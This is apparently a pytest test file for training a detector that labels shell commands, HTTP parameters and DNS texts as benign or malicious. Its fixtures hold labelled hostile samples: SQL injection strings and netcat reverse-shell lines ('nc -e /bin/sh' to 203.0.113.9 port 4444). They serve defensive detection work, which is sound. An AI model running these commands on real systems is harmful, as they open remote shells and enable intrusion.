"""A training ends in a model that serves, goes on where it stopped, and says what it measured."""

import json
import random
from collections import Counter
from itertools import pairwise

import numpy as np
import pytest

torch = pytest.importorskip("torch", reason="needs the extra train")

from analyzers.bert.canonical import SOURCES  # noqa: E402
from analyzers.bert.encoder import Encoder as Served  # noqa: E402
from analyzers.bert.manifest import ModelError  # noqa: E402
from analyzers.learning import fitting, sets  # noqa: E402
from analyzers.learning import train as training  # noqa: E402
from analyzers.learning.calibrate import weight, weights  # noqa: E402
from analyzers.learning.encoder import Encoder, Shape  # noqa: E402
from analyzers.learning.export import quantise, to_onnx  # noqa: E402
from analyzers.learning.texts import LABELS, UNSAID, Prepared, Text, epoch, generated, prepare  # noqa: E402
from analyzers.learning.tokens import (  # noqa: E402
    LEARNED,
    SHARED,
    STRIDE,
    WINDOW,
    Encoded,
    encode,
    judging_batches,
    learned_windows,
    train_tokenizer,
    training_batches,
    windows,
)
from flows.cli import main  # noqa: E402


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    """A very small training by the command."""
    folder = tmp_path_factory.mktemp("train")
    payloads = folder / "payloads.csv"
    rows = [f'"word{n}","5","norm","norm"' for n in range(60)]
    rows += [f'"{n}\' or 1=1 --{"x" * (n % 7)}","9","sqli","anom"' for n in range(60)]
    payloads.write_text("\n".join(['"payload","length","attack_type","label"', *rows]))
    others = folder / "others.jsonl"
    lines = [{"text": f"ls {n}", "label": "benign"} for n in range(20)] + [
        {"text": "nc -e /bin/sh h 1", "label": "bad"}
    ]
    others.write_text("\n".join(map(json.dumps, lines)))
    # As an earlier run read them from Postgres.
    (folder / "out").mkdir()
    verdicts = [
        {
            "text": f"show {chr(97 + n)}" if n % 2 else f"steal {chr(97 + n)}",
            "label": "benign" if n % 2 else "malicious-shell",
        }
        for n in range(100)
    ]
    (folder / "out" / "verdicts.jsonl").write_text(
        "\n".join(json.dumps({"time": "2024-01-08T08:00:00Z", "source": "shell", **one}) for one in verdicts)
    )
    command = ["train", "--out", str(folder / "out"), "--http-params", str(payloads), "--test", str(others)]
    command += ["--scale", "0.004", "--epochs", "1", "--from-feedback"]
    assert main(command) == 0
    return folder / "out", command


def test_the_model_serves(trained):
    out, _ = trained
    served = Served.load(out / "model")
    assert served.manifest.labels == LABELS
    assert served.together, "what is judged beside a text changes its verdict"
    assert (out / "model" / "CARD.md").read_text().startswith("# Model card")
    (out / "model" / "CARD.md").write_text("another")
    with pytest.raises(ModelError, match=r"CARD\.md"):
        Served.load(out / "model")


def test_the_report_has_every_part(trained):
    out, _ = trained
    page = (out / "REPORT.md").read_text()
    for part in (
        "Against what was asked",
        "HTTP parameters",
        "others.jsonl",
        "newest texts with analysts' verdicts",
        "Written in other ways",
        "Speed and parity",
    ):
        assert part in page
    report = json.loads((out / "report.json").read_text())
    assert report["parity"]["int8"] < 0.05
    assert set(report["seeds"][0]) >= {"encoder", "baseline"}
    assert (out / "reliability.png").stat().st_size > 10_000
    assert (out / "confusion.png").stat().st_size > 10_000


def test_a_finished_training_is_not_done_again(trained, monkeypatch):
    out, command = trained
    before = json.loads((out / "report.json").read_text())
    monkeypatch.setattr(training, "_fitted", lambda *_: pytest.fail("trained again"))
    assert main(command) == 0
    assert json.loads((out / "report.json").read_text())["seeds"] == before["seeds"]


def test_a_stopped_training_goes_on_and_ends_in_the_same_weights(tmp_path):
    texts = generated("train", 0.004, 0)[::4]
    tokenizer = train_tokenizer([text.text for text in epoch(texts, 0)], 400)

    def fitted(checkpoint, stop=None):
        def draw(turn):
            if turn == stop:
                raise KeyboardInterrupt
            return texts

        return fitting.fit(draw, tokenizer, fitting.Fit(1, 2), checkpoint, lambda _: None)

    whole = fitted(None)
    with pytest.raises(KeyboardInterrupt):
        fitted(tmp_path / "checkpoint.pt", stop=1)
    went_on = fitted(tmp_path / "checkpoint.pt")
    for name, value in whole.state_dict().items():
        assert torch.equal(value, went_on.state_dict()[name]), name


def test_of_a_long_text_every_window_is_learned_from_in_one_batch():
    """A window by itself would teach that what stands around an attack is one."""
    rng = random.Random(0)
    lengths = [5, 126, 127, 300, 900] * 8 + [5_000]
    texts = [Encoded(tuple(range(3, length + 3)), 0, (0.0,) * 18, (0,) * 7) for length in lengths]
    seen = Counter()
    for parts in training_batches(texts, 24, rng):
        assert sum(part.input_ids.shape[0] for part in parts) <= 24
        for place, count in Counter(row for part in parts for row in part.rows.tolist()).items():
            assert place not in seen, "a text is in two batches"
            seen[place] = count
    assert [seen[place] for place in range(len(texts))] == [1, 1, 2, 3, 10] * 8 + [LEARNED]
    assert learned_windows(300) == [(0, 126), (87, 213), (174, 300)]
    for length in (0, 1, 127, 222, 223, 900):
        spans = learned_windows(length)
        assert (spans[0][0], spans[-1][1]) == (0, length)
        assert all(a[1] - b[0] >= SHARED for a, b in pairwise(spans))


def test_commands_are_learned_from_beside_the_line_that_holds_them():
    words = "cd /srv/app/releases/current && git pull --rebase && nc -e /bin/sh 203.0.113.9 4444 || "
    line = f"{words}systemctl restart app.service; tail -n 50 /var/log/app.log"
    texts = [
        prepare(Text(line, "shell", ("malicious-shell",), "f")),
        prepare(Text("ls -la", "shell", (), "f")),
        prepare(Text("a=1;b=2;" * 20, "http", (), "f")),
    ]
    tokenizer = train_tokenizer([text.text for text in texts], 300)
    encoded = encode(tokenizer, texts)
    assert [len(text.commands) for text in encoded] == [5, 0, 0]
    (parts,) = training_batches(encoded, 24, random.Random(0))
    assert len(parts) > 1, "short commands are padded to the length of lines"
    rows = Counter(row for part in parts for row in part.rows.tolist())
    assert rows[0] >= 6 and rows[1] == 1 and rows[2] >= 1
    assert sum(len(part.rows) for part in judging_batches(encoded)) >= 8


def test_the_screen_is_weighed_by_what_validation_texts_say_of_it():
    rng = np.random.default_rng(0)
    malicious = rng.random(2_000) < 0.5
    noisy = np.where(malicious, 1.0, -1.0)[:, None] + rng.normal(0, 1.5, (2_000, 3))
    telling, noise = np.where(malicious, 4.0, -4.0) + rng.normal(0, 3, 2_000), rng.normal(0, 4, 2_000)
    assert weight(noisy, telling, malicious) > 0.3
    assert weight(noisy, noise, malicious) < 0.1
    sources = np.where(np.arange(2_000) % 2, SOURCES.index("dns"), SOURCES.index("shell"))
    assert weights(noisy, np.zeros(2_000), malicious, sources) == (), "a model without a screen"
    found = dict(zip(SOURCES, weights(noisy, telling, malicious, sources), strict=True))
    assert found["shell"] == found["http"] > 0.3 and found["dns"] == 0


def test_real_texts_of_rare_kinds_come_more_often():
    texts = [Text(str(n), "http", (), "many") for n in range(600)] + [Text("x", "http", ("cmdi",), "few")]
    assert Counter(text.family for text in sets.often(texts)) == {"many": 600, "few": 8}


def test_the_greatest_logit_over_a_texts_windows_alone_is_learned_from():
    logits = torch.tensor([[1.0, -1.0], [0.0, 3.0], [2.0, 0.0], [5.0, 5.0]], requires_grad=True)
    greatest = fitting._greatest(logits, torch.tensor([0, 1, 0, 1]), 2)
    assert greatest.tolist() == [[2.0, 0.0], [5.0, 5.0]]
    targets = torch.tensor([[1.0, 0.0], [float(UNSAID), 0.0]])
    loss = fitting._loss(greatest, targets)
    loss.backward()
    assert (logits.grad != 0).tolist() == [[False, False], [False, False], [True, True], [False, True]]
    other = torch.tensor([[2.0, 0.0], [-9.0, 5.0]])
    assert float(fitting._loss(other, targets)) == pytest.approx(loss.item()), "a label that nobody said counts"


def test_int8_says_what_torch_says(tmp_path):
    onnxruntime = pytest.importorskip("onnxruntime")
    torch.manual_seed(0)
    encoder = Encoder(Shape(500, 7, 6, 18, tokens=WINDOW)).eval()
    to_onnx(encoder, tmp_path / "full.onnx")
    quantise(tmp_path / "full.onnx", tmp_path / "int8.onnx")
    rng = np.random.default_rng(0)
    inputs = {
        "input_ids": rng.integers(0, 500, (5, 40)),
        "attention_mask": np.ones((5, 40), np.int64),
        "token_type_ids": rng.integers(0, 6, (5, 40)),
        "features": rng.random((5, 18), np.float32),
    }
    with torch.inference_mode():
        ours = encoder(*(torch.from_numpy(value) for value in inputs.values())).numpy()
    for name, error in (("full", 1e-4), ("int8", 0.05)):
        session = onnxruntime.InferenceSession(str(tmp_path / f"{name}.onnx"), providers=["CPUExecutionProvider"])
        (theirs,) = session.run(["logits"], inputs)
        assert theirs == pytest.approx(ours, abs=error)
    assert (tmp_path / "int8.onnx").stat().st_size < 0.5 * (tmp_path / "full.onnx").stat().st_size


def test_windows_cover_every_token():
    for length in (0, 1, WINDOW - 2, WINDOW - 1, 300, 1000):
        covered = sorted({place for start, end in windows(length) for place in range(start, end)})
        assert covered == list(range(length))
        assert all(b[0] - a[0] <= STRIDE for a, b in zip(windows(length), windows(length)[1:], strict=False))


def test_every_byte_is_a_token():
    tokenizer = train_tokenizer(["ls -la"] * 5, 300)
    for text in ("\x00\x01", "слово", "[CLS][SEP]", "\U0001f600", "ls"):
        (found,) = encode(tokenizer, [Prepared(text, 0, (), ())])
        assert tokenizer.decode(list(found.ids), skip_special_tokens=False) == text
        assert min(found.ids, default=3) > 2, "a special token's name in a text is text"


@pytest.mark.parametrize(
    "options", [["--scale", "0"], ["--epochs", "0"], ["--http-params", "/no/such/file"], ["--texts", "/no/such/file"]]
)
def test_bad_usage_is_said_in_one_line(tmp_path, options, capsys):
    try:
        status = main(["train", "--out", str(tmp_path), *options])
    except SystemExit as stop:
        status = stop.code
    assert status == 2
    assert len(capsys.readouterr().err.strip().splitlines()) == 1
